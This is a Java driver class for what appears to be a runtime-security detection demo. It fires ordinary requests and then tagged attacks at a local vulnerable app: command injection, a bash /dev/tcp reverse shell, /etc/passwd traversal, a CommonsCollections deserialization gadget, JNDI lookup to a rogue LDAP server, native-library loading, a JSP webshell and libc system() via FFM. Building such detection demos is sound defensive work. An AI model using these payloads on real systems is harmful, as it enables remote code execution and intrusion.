package dev.peregrine.demo.driver;

import dev.peregrine.demo.app.Cart;

import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.UUID;

/**
 * What the driver does, in order: ordinary traffic first (pages, a DNS lookup, a text upload, a cart), then each
 * attack, then one more ordinary page. Attack payloads leave proof where they can (a file only the payload creates,
 * the reverse shell's {@code id}), so the demo shows that each one really happened.
 */
public final class Steps {

    /**
     * A shell comment carried by the injected commands: harmless, and it puts "peregrine-demo" in the command lines
     * of the processes the attacks start, so that the demo recognises kernel alerts about them on a busy host.
     */
    static final String TAG = "# peregrine-demo";

    private Steps() {
    }

    public static List<Step> all(RogueLdap ldap, ShellListener listener) {
        String nonce = UUID.randomUUID().toString().substring(0, 8);
        return List.of(
                new Step("page-index", "Normal page: GET /files?name=index.html", null,
                        http -> get(http, "/files?name=index.html")),
                new Step("dns-lookup", "Normal DNS lookup: GET /lookup?host=localhost", null,
                        http -> get(http, "/lookup?host=localhost")),
                new Step("upload-notes", "Normal upload of notes.txt", null,
                        http -> post(http, "/upload?name=notes.txt", "shopping list: eggs, flour\n".getBytes())),
                new Step("cart-restore", "Normal cart restore: a serialized Cart", null,
                        http -> post(http, "/cart", GadgetPayload.serialize(new Cart("alice", List.of("eggs", "flour"))))),
                new Step("config-lookup", "Normal JNDI lookup of java:comp/env/jdbc/shop", null,
                        http -> get(http, "/jndi?name=" + Http.q("java:comp/env/jdbc/shop"))),
                new Step("command-injection", "Command injection: host=localhost; id",
                        "Shell command with injection metacharacters run by JVM",
                        http -> get(http, "/lookup?host=" + Http.q("localhost; id " + TAG))),
                new Step("reverse-shell", "Reverse shell through the command injection (bash /dev/tcp to the attacker)",
                        "Reverse shell started by JVM", http -> reverseShell(http, listener)),
                new Step("path-traversal", "Path traversal: name=../../../../../../../../etc/passwd",
                        "Path traversal read by JVM",
                        http -> get(http, "/files?name=" + Http.q("../../../../../../../../etc/passwd"))),
                new Step("deserialization", "Unsafe deserialization: commons-collections gadget chain -> Runtime.exec",
                        "Process started by gadget chain in JVM", http -> deserialization(http, nonce)),
                new Step("jndi-injection", "JNDI injection: lookup of the attacker's ldap:// URL",
                        "JNDI lookup of remote URL", http -> jndi(http, ldap)),
                new Step("native-library", "Native library uploaded to /tmp and loaded with System.load",
                        "Native library loaded from writable directory", Steps::nativeLibrary),
                new Step("webshell-upload", "Webshell upload: shell.jsp into the served uploads/ directory",
                        "Webshell written by JVM", http -> post(http, "/upload?name=shell.jsp",
                                "<%= new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter(\"c\"))"
                                        .concat(".getInputStream()).useDelimiter(\"\\\\A\").next() %>\n").getBytes())),
                new Step("ffm-escape", "Native escape: libc system() called through FFM (no ProcessBuilder)",
                        "C library bound through FFM by JVM", http -> ffm(http, nonce)),
                new Step("page-about", "Normal page: GET /files?name=about.html", null,
                        http -> get(http, "/files?name=about.html")));
    }

    private static Step.Outcome get(Http http, String path) throws Exception {
        HttpResponse<String> r = http.get(path);
        return new Step.Outcome("GET " + path, r.statusCode(), firstLine(r.body()));
    }

    private static Step.Outcome post(Http http, String path, byte[] body) throws Exception {
        HttpResponse<String> r = http.post(path, body);
        return new Step.Outcome("POST " + path + " (" + body.length + " bytes)", r.statusCode(), firstLine(r.body()));
    }

    private static Step.Outcome reverseShell(Http http, ShellListener listener) throws Exception {
        String host = "localhost; bash -c 'bash -i >& /dev/tcp/127.0.0.1/" + listener.port() + " 0>&1 " + TAG + "'";
        HttpResponse<String> r = http.get("/lookup?host=" + Http.q(host));
        return new Step.Outcome("GET /lookup?host=" + host, r.statusCode(),
                "shell said: " + firstLine(grep(listener.transcript(), "uid=")));
    }

    private static Step.Outcome deserialization(Http http, String nonce) throws Exception {
        Path proof = Path.of("/tmp/peregrine-demo-deser-" + nonce);
        // A shell, as real payloads use one: with the probe, the kernel's exec of sh joins the Java call whose stack
        // holds the gadget chain, which the correlated rules name.
        byte[] payload = GadgetPayload.runtimeExec("sh", "-c", "touch " + proof);
        HttpResponse<String> r = http.post("/cart", payload);
        boolean done = awaitFile(proof);
        Files.deleteIfExists(proof);
        return new Step.Outcome("POST /cart (" + payload.length + " bytes: CommonsCollections6 -> sh -c 'touch " + proof + "')",
                r.statusCode(), (done ? "proof file created by the payload; " : "NO proof file; ") + firstLine(r.body()));
    }

    private static Step.Outcome jndi(Http http, RogueLdap ldap) throws Exception {
        int before = ldap.searches();
        HttpResponse<String> r = http.get("/jndi?name=" + Http.q(ldap.url()));
        return new Step.Outcome("GET /jndi?name=" + ldap.url(), r.statusCode(),
                "attacker's LDAP server got " + (ldap.searches() - before) + " search(es); " + firstLine(r.body()));
    }

    private static Step.Outcome nativeLibrary(Http http) throws Exception {
        // A real shared object every JDK 22+ ships (a tiny one, without JNI_OnLoad side effects).
        Path lib = Path.of(System.getProperty("java.home"), "lib", "libsyslookup.so");
        HttpResponse<String> up = http.post("/upload?name=libfastpath.so", Files.readAllBytes(lib));
        String stored = up.body().trim();
        HttpResponse<String> r = http.get("/plugins/load?path=" + Http.q(stored));
        return new Step.Outcome("POST /upload?name=libfastpath.so (" + lib + "), GET /plugins/load?path=" + stored,
                r.statusCode(), firstLine(r.body()));
    }

    private static Step.Outcome ffm(Http http, String nonce) throws Exception {
        Path proof = Path.of("/tmp/peregrine-demo-ffm-" + nonce);
        String cmd = "id > " + proof;
        HttpResponse<String> r = http.get("/native/exec?cmd=" + Http.q(cmd));
        boolean done = awaitFile(proof);
        String evidence = done ? "libc system() ran: " + firstLine(Files.readString(proof)) : "NO proof file";
        Files.deleteIfExists(proof);
        return new Step.Outcome("GET /native/exec?cmd=" + cmd, r.statusCode(), evidence + "; " + firstLine(r.body()));
    }

    private static boolean awaitFile(Path file) throws InterruptedException {
        for (int i = 0; i < 50 && !Files.exists(file); i++) {
            Thread.sleep(20);
        }
        return Files.exists(file);
    }

    private static String grep(String text, String word) {
        for (String line : text.split("\n")) {
            if (line.contains(word)) {
                return line;
            }
        }
        return text;
    }

    static String firstLine(String text) {
        String t = text == null ? "" : text.strip();
        int nl = t.indexOf('\n');
        String line = nl < 0 ? t : t.substring(0, nl);
        return line.length() > 160 ? line.substring(0, 157) + "..." : line;
    }
}
